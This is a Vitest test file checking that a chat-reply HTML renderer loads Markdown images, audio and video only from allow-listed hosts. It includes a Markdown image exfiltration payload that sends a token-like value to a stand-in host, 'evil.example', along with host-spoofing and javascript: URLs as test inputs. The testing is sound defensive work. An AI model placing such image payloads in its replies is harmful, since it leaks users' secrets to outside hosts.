// @vitest-environment happy-dom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Segment } from '../../src/segments/segmentCatalog';
import { completedReply } from './completedReply';
import { renderHtml } from '../../src/render/renderHtml';
import { fetchesOnLoad } from './fetchesOnLoad';
import { notInert } from './inertHtml';

const completed = (...segments: Segment[]) => completedReply({ segments });
const markdown = (content: string) => completed({ type: 'markdown', data: { content } });
const imageUrl = (value: string): Segment => ({
  type: 'image',
  data: { media: { kind: 'url', value } },
});
const png = btoa(
  String.fromCharCode(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, ...new Array(24).fill(1)),
);
const dom = (html: string) => {
  const host = document.createElement('div');
  host.innerHTML = html;
  return host;
};

describe('Markdown images load only from imageHosts', () => {
  const exfil = '![](https://evil.example/collect?d=ghp_secret&u=1)';

  it('renders an image off the list as a link the reader may click, showing the host', () => {
    for (const options of [{}, { imageHosts: [] }, { imageHosts: ['cdn.example.com'] }]) {
      const html = renderHtml(markdown(exfil), options);
      const host = dom(html);
      expect(host.querySelector('img')).toBeNull();
      const link = host.querySelector('a.rg-image-link');
      expect(link?.getAttribute('href')).toBe('https://evil.example/collect?d=ghp_secret&u=1');
      expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      expect(link?.querySelector('small')?.textContent).toBe('evil.example');
      expect(fetchesOnLoad(html, document, options.imageHosts)).toEqual([]);
    }
  });

  it('loads an image whose host is exactly on the list, lazily and without a referrer', () => {
    const html = renderHtml(markdown('![chart *q3*](https://CDN.example.com/c.png "Q3")'), {
      imageHosts: ['cdn.example.com'],
    });
    const img = dom(html).querySelector('img');
    expect(img?.getAttribute('src')).toBe('https://cdn.example.com/c.png');
    expect(img?.getAttribute('alt')).toBe('chart q3');
    expect(img?.getAttribute('title')).toBe('Q3');
    expect(img?.getAttribute('loading')).toBe('lazy');
    expect(img?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(fetchesOnLoad(html, document, ['cdn.example.com'])).toEqual([]);
  });

  it.each([
    ['a subdomain of a listed host', 'https://evil.cdn.example.com/x.png'],
    ['a listed host as a suffix', 'https://cdn.example.com.evil.example/x.png'],
    ['credentials that look like the host', 'https://cdn.example.com@evil.example/x.png'],
    ['the host in the fragment', 'https://evil.example/x.png#cdn.example.com'],
    ['another port', 'https://cdn.example.com:8443/x.png'],
    ['a relative address (the page origin)', '/collect?d=1'],
    ['a protocol-relative address', '//evil.example/x.png'],
    ['a data: URL', 'data:image/svg+xml;base64,PHN2Zz4='],
    ['a javascript: URL', 'javascript:alert(1)'],
  ])('does not load %s', (_name, address) => {
    const html = renderHtml(markdown(`![x](<${address}>)`), { imageHosts: ['cdn.example.com'] });
    expect(dom(html).querySelector('img')).toBeNull();
    expect(dom(html).querySelector('.rg-image-link')).not.toBeNull();
    expect(fetchesOnLoad(html, document, ['cdn.example.com'])).toEqual([]);
    expect(notInert(html, document)).toEqual([]);
  });

  it('ignores list entries that are not bare hosts', () => {
    const html = renderHtml(
      markdown('![x](https://evil.example/a.png) ![y](https://any.example/b.png)'),
      { imageHosts: ['https://evil.example', 'evil.example/', '*.example', 'a@evil.example', ''] },
    );
    expect(dom(html).querySelectorAll('img')).toHaveLength(0);
  });

  it('shows only the label of an image inside a link, so the outer link stays whole', () => {
    const html = renderHtml(
      markdown('[![logo *x*](https://evil.example/l.png)](https://example.com/home)'),
    );
    const host = dom(html);
    expect(host.querySelectorAll('a')).toHaveLength(1);
    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://example.com/home');
    expect(host.querySelector('a span.rg-image-link')?.textContent).toBe('🖼 logo x');
  });

  it('resolves reference images, autolinks and escapes before deciding', () => {
    const html = renderHtml(
      markdown(
        '![a][r] and ![b](https://evil.example/q?x=&quot;&lt;) <https://evil.example/auto>\n\n[r]: https://evil.example/ref?d=1 "t"',
      ),
      { imageHosts: ['ok.example'] },
    );
    const host = dom(html);
    expect(host.querySelector('img')).toBeNull();
    expect(
      Array.from(host.querySelectorAll('a.rg-image-link')).map((a) => a.getAttribute('href')),
    ).toEqual(['https://evil.example/ref?d=1', 'https://evil.example/q?x=%22%3C']);
    expect(host.querySelector('a:not(.rg-image-link)')?.getAttribute('href')).toBe(
      'https://evil.example/auto',
    );
  });

  it('shows HTML-looking text as text (raw HTML is off, not just escaped)', () => {
    const html = renderHtml(markdown('<div>\n*a* <img src="https://evil.example/x">\n</div>'));
    expect(dom(html).querySelector('em')?.textContent).toBe('a');
    expect(html).toContain('&lt;img src=&quot;https://evil.example/x&quot;&gt;');
    expect(fetchesOnLoad(html, document)).toEqual([]);
  });

  it('no Markdown, however written, loads an image from a host off the list (property)', () => {
    const pieces = [
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '"',
      "'",
      '\\',
      '&amp;',
      '&#x21;',
      '\n',
      '\n\n',
      ' ',
      'x',
      ':',
      '[r]: ',
      'https://ok.example/i.png',
      'https://evil.example/c?d=1',
      '//evil.example',
      '/rel',
      'data:image/png;base64,AA',
      '`',
      '*',
      '    ',
      '![ok](https://ok.example/i.png)',
      '![e](https://evil.example/c?d=2)',
    ];
    const md = fc
      .array(fc.constantFrom(...pieces), { maxLength: 40 })
      .map((parts) => parts.join(''));
    let loaded = 0;
    fc.assert(
      fc.property(md, (content) => {
        const html = renderHtml(markdown(content), { imageHosts: ['ok.example'] });
        loaded += dom(html).querySelectorAll('img').length;
        expect(fetchesOnLoad(html, document, ['ok.example'])).toEqual([]);
      }),
      { numRuns: 1500, seed: 7 },
    );
    // The generator does reach allowed images, so the property is not vacuous.
    expect(loaded).toBeGreaterThan(0);
  });
});

describe('image segments and the allow-list', () => {
  const segments = [
    imageUrl('https://evil.example/p.png'),
    imageUrl('https://cdn.example.com/ok.png'),
    { type: 'image', data: { media: { kind: 'base64', value: png } } } as Segment,
  ];

  it('load from no outside host when no list is given: each becomes a link to its address', () => {
    for (const options of [{}, { imageHosts: [] }, { imageHosts: undefined }]) {
      const html = renderHtml(completed(...segments), options);
      const host = dom(html);
      expect(
        Array.from(host.querySelectorAll('img')).map((img) => img.getAttribute('src')),
      ).toEqual([`data:image/png;base64,${png}`]);
      expect(
        Array.from(host.querySelectorAll('a.rg-image-link')).map((a) => [
          a.getAttribute('href'),
          a.querySelector('small')?.textContent,
        ]),
      ).toEqual([
        ['https://evil.example/p.png', 'evil.example'],
        ['https://cdn.example.com/ok.png', 'cdn.example.com'],
      ]);
      expect(fetchesOnLoad(html, document)).toEqual([]);
    }
  });

  it("load from every http(s) host only when the host says 'any'", () => {
    const html = renderHtml(completed(...segments, imageUrl('ftp://files.example/x.png')), {
      imageHosts: 'any',
    });
    expect(
      Array.from(dom(html).querySelectorAll('img')).map((img) => img.getAttribute('src')),
    ).toEqual([
      'https://evil.example/p.png',
      'https://cdn.example.com/ok.png',
      `data:image/png;base64,${png}`,
    ]);
    expect(html).toContain('image unavailable');
    // 'any' is a word of its own: a list holding it, or a wildcard, allows nothing.
    for (const imageHosts of [['any'], ['*']]) {
      expect(
        dom(renderHtml(completed(...segments), { imageHosts })).querySelectorAll('img'),
      ).toHaveLength(1);
    }
  });

  it('load only from listed hosts when a list is given; base64 images always show', () => {
    const html = renderHtml(completed(...segments), { imageHosts: ['cdn.example.com'] });
    const host = dom(html);
    expect(Array.from(host.querySelectorAll('img')).map((img) => img.getAttribute('src'))).toEqual([
      'https://cdn.example.com/ok.png',
      `data:image/png;base64,${png}`,
    ]);
    expect(host.querySelector('a.rg-image-link')?.getAttribute('href')).toBe(
      'https://evil.example/p.png',
    );
    expect(fetchesOnLoad(html, document, ['cdn.example.com'])).toEqual([]);
    expect(
      dom(renderHtml(completed(...segments), { imageHosts: [] })).querySelectorAll('img'),
    ).toHaveLength(1);
  });

  const media = (type: 'audio' | 'video', value: string): Segment => ({
    type,
    data: { media: { kind: 'url', value } },
  });

  it('audio and video from an allowed host load nothing before play', () => {
    const html = renderHtml(
      completed(
        media('audio', 'https://media.example/a.mp3'),
        media('video', 'https://media.example/v.mp4'),
      ),
      { imageHosts: ['media.example'] },
    );
    const host = dom(html);
    expect(
      Array.from(host.querySelectorAll('audio, video')).map((element) =>
        element.getAttribute('preload'),
      ),
    ).toEqual(['none', 'none']);
    expect(host.querySelector('[poster]')).toBeNull();
    expect(fetchesOnLoad(html, document)).toEqual([]);
  });

  it('audio and video from any other host (or with no list) are links, not players', () => {
    for (const options of [{}, { imageHosts: ['cdn.example.com'] }]) {
      const html = renderHtml(
        completed(
          media('audio', 'https://evil.example/a.mp3?d=SECRET'),
          media('video', 'https://evil.example/v.mp4'),
        ),
        options,
      );
      const host = dom(html);
      expect(host.querySelectorAll('audio, video')).toHaveLength(0);
      expect(
        Array.from(host.querySelectorAll('a.rg-image-link')).map((a) => a.textContent),
      ).toEqual(['🔊 audio evil.example', '🎞 video evil.example']);
    }
  });
});

it('the fetch audit catches what would load (negative control)', () => {
  expect(
    fetchesOnLoad(
      '<img src="https://evil.example/x"><img src="/rel"><img src="data:image/png;base64,AA" srcset="https://evil.example/2x 2x"><video src="https://e.example/v"></video><p style="background:url(https://e.example/)">',
      document,
      ['ok.example'],
    ),
  ).toEqual([
    '<img src="https://evil.example/x">',
    '<img src="/rel">',
    'srcset= on <img>',
    '<video> without preload="none"',
    'style= on <p>',
  ]);
  expect(fetchesOnLoad('<img src="https://ok.example/x">', document, ['ok.example'])).toEqual([]);
});
